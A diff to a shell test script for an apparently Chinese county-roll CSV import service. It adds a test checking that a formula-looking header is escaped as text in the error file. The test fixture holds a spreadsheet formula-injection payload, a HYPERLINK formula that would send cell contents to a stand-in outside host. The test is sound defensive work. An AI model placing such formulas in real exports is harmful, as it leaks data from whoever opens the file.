@@ -271,6 +271,16 @@ expect_eq "$(tail -c +4 "$TEST_TMP/body" | tr -d '\r' | sed -n '1p;2p')" \
 expect_eq "$(tail -c +4 "$TEST_TMP/body" | wc -l)" 7 "... one line per error"
 expect_eq "$(state)" "$before"
 
+# What a file sent never comes back as a formula: a header cell that looks like one is written
+# into the error file as text (a leading apostrophe), whatever spreadsheet opens it.
+printf '%s,"=HYPERLINK(""http://x.example/""&A1)"\n' "$IMPORT_HEADER" >"$f/formula-header.csv"
+import_row 210102001 '' 褚红 1971-07-07 | sed 's/$/,x/' >>"$f/formula-header.csv"
+upload heping-clerk "$f/formula-header.csv" '?errors=csv'
+expect_status 422 "an unknown formula-looking column is an error"
+check "... which the error file writes as text, not as a formula" \
+    grep -qF '"'"'"'=HYPERLINK(""http://x.example/""&A1)"' "$TEST_TMP/body"
+check "... and nowhere as a cell starting with =" bash -c "! grep -qE '(^|,)=' '$TEST_TMP/body'"
+
 # A person on the roll of the sibling county: her ID number cannot be taken over.
 shenhe_org=$(sql "SELECT id FROM organisation WHERE federation_of = '210103005'")
 create_cadre shenhe-clerk "$(cadre_body 林秀 1981-06-06 "$shenhe_org" chair)"
